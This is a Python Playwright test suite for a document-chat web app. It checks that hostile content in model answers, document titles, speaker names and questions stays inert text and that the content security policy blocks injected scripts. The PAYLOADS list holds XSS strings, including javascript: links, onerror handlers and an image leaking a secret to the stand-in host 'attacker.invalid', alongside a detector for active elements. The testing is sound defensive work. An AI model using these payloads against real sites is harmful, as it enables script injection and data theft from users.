"""Whatever a model, a document or a question says: it stays text."""

import pytest
from chat_page import ChatPage
from page_server import served
from playwright.sync_api import expect

from footnote.app import parts
from footnote.passages import Document, Kind, Passage, Segment
from footnote.settings import Settings

ELSEWHERE = "http://attacker.invalid"
PAYLOADS = [
    "<script>window.owned = 'script'</script>",
    f'<img src="{ELSEWHERE}/x.png" onerror="window.owned = 1">',
    f"![image]({ELSEWHERE}/leak.png?q=secret)",
    "[link](javascript:window.owned='link')",
    "[data](data:text/html,<script>parent.owned=1</script>)",
    f'<form action="{ELSEWHERE}"><input name=q><button>Sign in</button></form>',
    f'<iframe src="{ELSEWHERE}"></iframe>',
    "<svg onload=\"window.owned='svg'\"><script>window.owned=1</script></svg>",
    f"<style>body {{ background: url({ELSEWHERE}/css) }}</style>",
    f'<link rel=stylesheet href="{ELSEWHERE}/x.css"><base href="{ELSEWHERE}/">',
    '<a href="#" onclick="window.owned=1" id="query" class="retry" data-turn="x">click</a>',
    '<math><mtext><img src=x onerror="window.owned=1"></mtext></math>',
    '$\\href{javascript:window.owned=1}{x}$ and $$\\text{<img src=x onerror="window.owned=1">}$$',
    '```"><script>window.owned=1</script>\n<script>window.owned=1</script>\n```',
    "| <img src=x onerror=window.owned=1> | b |\n|---|---|\n| <script>window.owned=1</script> | [x](vbscript:1) |",
    "\u2028\u2029</script><!-- {{7*7}} ${7*7} \x1b[31m a separator\u2028and an end",
]
HOSTILE = "<img src=x onerror=\"window.owned='document'\"><script>window.owned=1</script>"


@pytest.fixture(scope="module")
def hostile_server(tmp_path_factory):
    """A library whose one document is hostile in its title, its speakers and its words."""
    nothing = tmp_path_factory.mktemp("nothing")
    made = parts(Settings(data=tmp_path_factory.mktemp("hostile"), library=nothing))
    text = f"{HOSTILE}: The attack begins here. {' '.join(PAYLOADS)}\n{HOSTILE}: And ends."
    segments = (
        Segment(0, 0, speaker=HOSTILE, start_s=1.0, end_s=2.0),
        Segment(text.rindex(HOSTILE), 1, speaker=HOSTILE, start_s=2.0, end_s=3.0),
    )
    document = Document("hostile/<b>id", f"Title {HOSTILE}", Kind.RECORDING, "hostile.txt", "1", words=9)
    made.library.replace(document, [Passage("p1", document.id, document.title, 0, text, segments)])
    with served(made) as server:
        yield server


@pytest.fixture
def hostile_chat(context, hostile_server):
    yield ChatPage(context.new_page()).open(hostile_server.url)
    hostile_server.model.rest()


def test_hostile_text_never_runs_loads_or_becomes_anything_but_text(hostile_chat, hostile_server, watch):
    """In the answer while it streams and when done, the question, the title, the speaker, the excerpt, a reload."""
    chat = hostile_chat
    question = f"The attack? {' '.join(PAYLOADS[:8])}"
    chat.page.get_by_label("Limit the next question to these documents").first.click()
    chat.page.get_by_role("option").first.click()
    chat.page.keyboard.press("Escape")
    chat.ask(question)
    writing = hostile_server.model.asked()
    assert len(writing.prompt.passages) == 1
    for payload in PAYLOADS:
        writing.say("\n\n", *(payload[at : at + 9] for at in range(0, len(payload), 9)), every_s=0.002)
    chat.shows("and an end")
    writing.say("\n\nSo it says [1].")
    chat.shows("So it says")
    _is_harmless(chat)
    writing.finish()
    chat.has_ended()
    expect(chat.questions).to_have_text([question])
    expect(chat.sources.first.locator(".source-title")).to_have_text(f"Title {HOSTILE}")
    expect(chat.sources.first.locator(".source-head")).to_contain_text(HOSTILE)
    expect(chat.sources.first.locator("blockquote")).to_contain_text("The attack begins here.")
    expect(chat.body).to_contain_text("<script>window.owned = 'script'</script>")
    expect(chat.body).to_contain_text(PAYLOADS[5])
    _is_harmless(chat)
    chat.reload()
    chat.has_ended()
    _is_harmless(chat)
    chat.body.locator("a", has_text="click").first.wait_for(state="detached")
    assert watch.hosts == {"127.0.0.1"}


def _is_harmless(chat: ChatPage) -> None:
    assert chat.page.evaluate("window.owned") is None
    assert chat.page.evaluate(_ACTIVE) == []


_ACTIVE = """() => {
  const elements = [...document.querySelectorAll("#thread *")];
  const kinds = "script, img, iframe, form, input, svg, style, link, base, object, embed, video, audio, meta";
  const found = elements.filter((e) => e.matches(kinds)).map((e) => e.outerHTML);
  for (const element of elements) {
    for (const { name, value } of element.attributes) {
      if (name.startsWith("on") || name === "style" || name === "src") found.push(element.outerHTML);
      if (name === "href" && !/^(#$|https?:|mailto:)/.test(value)) found.push(element.outerHTML);
    }
    if (element.matches("a[href]:not(.cite)") && !/noopener/.test(element.rel)) found.push(element.outerHTML);
  }
  return found;
}"""


@pytest.mark.console("Content Security Policy", "Failed to load resource")
def test_the_policy_stops_what_would_have_come_through(chat):
    """Were a script, a handler, an image or a form ever put into the page, the browser would refuse it."""
    policy = chat.page.request.get(chat.page.url).headers["content-security-policy"]
    assert "default-src 'none'" in policy
    assert "'unsafe-inline'" not in policy.split("script-src")[1].split(";")[0]
    chat.page.evaluate(_FORCE)
    for directive in ("script-src-elem", "script-src-attr", "img-src", "connect-src", "form-action"):
        chat.page.wait_for_function("directive => window.refused.includes(directive)", arg=directive)
    assert chat.page.evaluate("window.owned") is None


_FORCE = """async () => {
  window.refused = [];
  document.addEventListener("securitypolicyviolation", (event) => window.refused.push(event.effectiveDirective));
  const script = document.createElement("script");
  script.textContent = "window.owned = 1";
  document.body.append(script);
  const put = document.body.appendChild(document.createElement("div"));
  put.innerHTML = "<img src='http://127.0.0.1:1/x.png' onerror='window.owned = 1'>" +
    "<a href='#' onclick='window.owned = 1'>x</a>" +
    "<form action='http://127.0.0.1:1/' method='post'><button>x</button></form>";
  put.querySelector("a").click();
  put.querySelector("button").click();
  await fetch("http://127.0.0.1:1/").catch(() => {});
}"""
